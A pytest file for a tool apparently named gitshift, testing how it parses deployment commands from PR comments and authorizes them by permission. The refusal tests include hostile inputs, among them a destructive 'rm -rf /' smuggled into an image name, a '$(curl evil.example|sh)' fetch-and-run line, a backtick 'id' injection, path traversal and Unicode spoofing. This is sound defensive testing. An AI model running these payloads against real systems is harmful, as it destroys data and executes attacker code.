"""The comment command grammar and the authorizer, including what an attacker would try."""

from __future__ import annotations

import pytest

from gitshift.comments.parse import Command, CommandError, RefusedError, authorize, barred_envs, parse
from gitshift.config import CommandsConfig, Rule


@pytest.mark.parametrize(("body", "expected"), [
    ("/gitshift canary scale 50", {"verb": "canary.scale", "weight": 50}),
    ("/gitshift canary scale --weight 0", {"verb": "canary.scale", "weight": 0}),
    ("/gitshift canary scale --weight=100", {"verb": "canary.scale", "weight": 100}),
    ("/gitshift canary scale --next", {"verb": "canary.scale", "next_step": True, "weight": None}),
    ("/gitshift canary promote", {"verb": "canary.promote"}),
    ("/gitshift canary confirm", {"verb": "canary.promote"}),
    ("/gitshift canary rollback", {"verb": "canary.rollback"}),
    ("/gitshift canary deploy :2.0.0", {"verb": "canary.deploy", "image": ":2.0.0"}),
    ("/gitshift canary deploy --image ghcr.io/acme/web:2.0.0 --weight 5 --header X-Canary=always",
     {"image": "ghcr.io/acme/web:2.0.0", "weight": 5, "header": ("X-Canary", "always")}),
    ("/gitshift canary deploy :2 --header X-Beta --cookie beta", {"header": ("X-Beta", None), "cookie": "beta"}),
    ("/gitshift bluegreen deploy :1.1.0", {"verb": "bluegreen.deploy", "image": ":1.1.0"}),
    ("/gitshift bluegreen deploy --image :1.1.0 --replicas 3", {"image": ":1.1.0", "replicas": 3}),
    ("/gitshift bluegreen promote", {"verb": "bluegreen.promote"}),
    ("/gitshift bluegreen confirm", {"verb": "bluegreen.promote"}),
    ("/gitshift bluegreen rollback", {"verb": "bluegreen.rollback"}),
    ("/gitshift bluegreen finish", {"verb": "bluegreen.finish"}),
    ("/gitshift set-image :1.2.0 --max-surge 25% --max-unavailable 0",
     {"verb": "set-image", "image": ":1.2.0", "max_surge": "25%", "max_unavailable": "0"}),
    ("/gitshift promote web staging production",
     {"verb": "promote", "app": "web", "source": "staging", "env": "production"}),
    ("/gitshift promote staging production", {"verb": "promote", "app": None, "source": "staging"}),
    ("/gitshift revert 1A2B3C4D", {"verb": "revert", "commit": "1a2b3c4d"}),
    ("/gitshift status", {"verb": "status", "writes": False}),
    ("/gitshift help", {"verb": "help"}),
    ("/gitshift canary scale 25 --app web --env production-canary",
     {"app": "web", "env": "production-canary", "weight": 25}),
    ("  /gitshift   canary   scale 10  \r\nthanks!\nmore", {"weight": 10, "line": "/gitshift   canary   scale 10"}),
    ("/gitshift\tstatus", {"verb": "status"}),
    ("/gitshift set-image :1.2.0 --allow-other-envs", {"verb": "set-image", "allow_other_envs": True}),
    ("/gitshift set-image :1.2.0", {"allow_other_envs": False}),
    ("/gitshift canary scale --allow-other-envs 25", {"weight": 25, "allow_other_envs": True}),
    ("/gitshift promote web staging production --allow-other-envs", {"source": "staging", "allow_other_envs": True}),
    ("/gitshift set-image :1.2.0 --all-kustomizations", {"all_kustomizations": True, "allow_other_envs": False}),
    ("/gitshift set-image :1.2.0", {"all_kustomizations": False}),
    ("/gitshift bluegreen promote --all-kustomizations --allow-other-envs",
     {"verb": "bluegreen.promote", "all_kustomizations": True, "allow_other_envs": True}),
])
def test_valid_commands(body: str, expected: dict[str, object]) -> None:
    command = parse(body)
    assert command is not None
    for key, value in expected.items():
        assert getattr(command, key) == value, key


@pytest.mark.parametrize("body", [
    "LGTM", "", "   \n\n", "please /gitshift canary scale 50", "/gitshiftcanary scale 50", "/gitshift-x status",
    "> /gitshift canary scale 50", "`/gitshift canary scale 50`",
])
def test_comments_not_addressed_to_gitshift(body: str) -> None:
    assert parse(body) is None


@pytest.mark.parametrize(("body", "message"), [
    ("/gitshift", "no command given"),
    ("/gitshift deploy", "unknown command `deploy`"),
    ("/gitshift canary", "unknown command `canary`"),
    ("/gitshift canary explode", "unknown command `canary explode`"),
    ("/gitshift status now", "does not take 'now'"),
    ("/gitshift canary promote --force", "unknown option --force"),
    ("/gitshift canary promote --weight 5", "takes no option --weight"),
    ("/gitshift canary scale 1e3", "invalid weight"),
    ("/gitshift canary scale 050", "invalid weight"),
    ("/gitshift canary scale -1", "invalid weight"),
    ("/gitshift canary scale 101", "invalid weight"),
    ("/gitshift canary scale 50.0", "invalid weight"),
    ("/gitshift canary scale 0x10", "invalid weight"),
    ("/gitshift canary scale ５０", "outside ASCII"),
    ("/gitshift canary scale", "needs exactly one of"),
    ("/gitshift canary scale 50 --next", "does not take '50'"),
    ("/gitshift canary scale --weight 10 --next", "needs exactly one of"),
    ("/gitshift canary scale --weight 10 --weight 20", "given twice"),
    ("/gitshift canary scale --weight", "needs a value"),
    ("/gitshift canary scale --next=yes", "takes no value"),
    ("/gitshift canary promote --allow-other-envs=yes", "--allow-other-envs takes no value"),
    ("/gitshift canary promote --allow-other-envs --allow-other-envs", "given twice"),
    ("/gitshift status --allow-other-envs", "`status` takes no option --allow-other-envs"),
    ("/gitshift help --allow-other-envs", "`help` takes no option --allow-other-envs"),
    ("/gitshift canary promote --all-kustomizations=yes", "--all-kustomizations takes no value"),
    ("/gitshift canary promote --all-kustomizations --all-kustomizations", "given twice"),
    ("/gitshift status --all-kustomizations", "`status` takes no option --all-kustomizations"),
    ("/gitshift help --all-kustomizations", "`help` takes no option --all-kustomizations"),
    ("/gitshift canary deploy", "needs an image"),
    ("/gitshift canary deploy 'web:1.0; rm -rf /'", "invalid image reference"),
    ("/gitshift set-image $(curl evil.example|sh)", "invalid image reference"),
    ("/gitshift set-image :1.0 `id`", "does not take '`id`'"),
    ("/gitshift canary deploy :2 --header 'X-A=b c'", "invalid header"),
    ("/gitshift canary deploy :2 --cookie 'a;b'", "invalid cookie"),
    ("/gitshift bluegreen deploy :2 --replicas 0", "invalid replica count"),
    ("/gitshift set-image :2 --max-surge -5", "invalid --max-surge"),
    ("/gitshift promote staging", "`promote` needs more arguments"),
    ("/gitshift promote a b c d", "`promote` does not take"),
    ("/gitshift promote web staging production --env dev", "not --env"),
    ("/gitshift revert HEAD~1", "invalid commit"),
    ("/gitshift revert main", "invalid commit"),
    ("/gitshift status --app ../../etc", "invalid app"),
    ("/gitshift status --env 'prod uction'", "invalid env"),
    ('/gitshift canary scale "50', "cannot split"),
    ("/GitShift status", "exactly"),
    ("／gitshift canary scale 50", "outside ASCII"),  # fullwidth solidus
    ("/gitѕhift canary scale 50", "outside ASCII"),  # Cyrillic dze
    ("/gіtshift canary scale 50", "outside ASCII"),  # Cyrillic i
    ("/ｇｉｔｓｈｉｆｔ status", "outside ASCII"),  # fullwidth letters
    ("/gitshift canary scale 5\u200b0", "control character U+200B"),  # zero-width space
    ("/gitshift canary scale 50\u202e", "control character U+202E"),  # right-to-left override
    ("/gitshift status\x00", "control character U+0000"),
    ("/gitshift status\x1b[2J", "control character U+001B"),
    ("/gitshift status " + "x" * 500, "longer than 400"),
    ("/gitshift status\n" + "x" * 9000, "longer than 8192"),
])
def test_malformed_commands_are_refused(body: str, message: str) -> None:
    with pytest.raises(CommandError) as caught:
        parse(body)
    assert message in caught.value.what
    assert caught.value.exit_code == 2


def test_prefix_comes_from_config() -> None:
    assert parse("/gitshift status", "!shift") is None
    command = parse("!shift canary scale 10", "!shift")
    assert command is not None and command.weight == 10


RULES = CommandsConfig(rules=(
    Rule(envs=("production",), verbs=("promote", "bluegreen.promote", "canary.promote"), allow_users=("alice",)),
    Rule(envs=("production-canary",), verbs=("canary",), min_permission="maintain"),
))


def cmd(verb: str) -> Command:
    return Command(verb, f"/gitshift {verb}")


@pytest.mark.parametrize(("verb", "permission", "login", "env", "config", "refusal"), [
    ("canary.scale", "write", "carol", "staging", CommandsConfig(), None),
    ("canary.scale", "admin", "alice", "staging", CommandsConfig(), None),
    ("canary.scale", "triage", "dave", "staging", CommandsConfig(), "has triage permission"),
    ("canary.scale", "read", "erin", "staging", CommandsConfig(), "needs at least write"),
    ("canary.scale", "none", "mallory", "staging", CommandsConfig(), "has none permission"),
    ("canary.scale", "bogus", "mallory", "staging", CommandsConfig(), "needs at least write"),
    ("canary.scale", "read", "erin", "staging", CommandsConfig(min_permission="read"), None),
    ("canary.scale", "write", "carol", "staging", CommandsConfig(min_permission="maintain"), "needs at least maintain"),
    ("status", "read", "erin", None, CommandsConfig(), None),
    ("help", "none", "mallory", None, CommandsConfig(), "needs at least read"),
    ("canary.scale", "admin", "alice", "staging", CommandsConfig(allow_users=("bob",)), "not in commands.allow_users"),
    ("status", "admin", "alice", None, CommandsConfig(allow_users=("bob",)), "not in commands.allow_users"),
    ("canary.scale", "maintain", "Bob", "staging", CommandsConfig(allow_users=("bob",)), None),
    ("promote", "maintain", "bob", "production", RULES, "promote in production is limited to @alice"),
    ("bluegreen.promote", "maintain", "bob", "production", RULES, "limited to @alice"),
    ("promote", "admin", "alice", "production", RULES, None),
    ("bluegreen.deploy", "write", "carol", "production", RULES, None),
    ("promote", "write", "carol", "staging", RULES, None),
    ("canary.scale", "write", "carol", "production-canary", RULES, "needs at least maintain permission"),
    ("canary.promote", "maintain", "bob", "production-canary", RULES, None),
    # The first matching rule wins, and a rule only narrows: it never lowers min_permission.
    ("canary.scale", "read", "erin", "production-canary",
     CommandsConfig(rules=(Rule(verbs=("canary.scale",), min_permission="read"),)), "needs at least write"),
    ("canary.scale", "admin", "alice", "dev",
     CommandsConfig(rules=(Rule(verbs=("canary.scale",), allow_users=("bob",)), Rule(allow_users=("alice",)))),
     "limited to @bob"),
])
def test_authorize(verb: str, permission: str, login: str, env: str | None, config: CommandsConfig,
                   refusal: str | None) -> None:
    if refusal is None:
        authorize(cmd(verb), permission, login, env, config)
        return
    with pytest.raises(RefusedError) as caught:
        authorize(cmd(verb), permission, login, env, config)
    assert refusal in caught.value.what
    assert caught.value.exit_code == 1


def test_allow_other_envs_opens_only_the_envs_the_commenter_may_shift() -> None:
    envs = [("web", "staging"), ("web", "production"), ("web", "production-canary"), ("api", "production")]
    assert barred_envs(cmd("bluegreen.promote"), "maintain", "bob", envs, RULES) == (
        ("web", "production", "bluegreen.promote in production is limited to @alice"),
        ("api", "production", "bluegreen.promote in production is limited to @alice"))
    assert barred_envs(cmd("canary.scale"), "write", "carol", envs, RULES) == (
        ("web", "production-canary", "canary.scale in production-canary needs at least maintain permission; "
                                     "@carol has write"),)
    assert barred_envs(cmd("bluegreen.promote"), "admin", "alice", envs, RULES) == ()
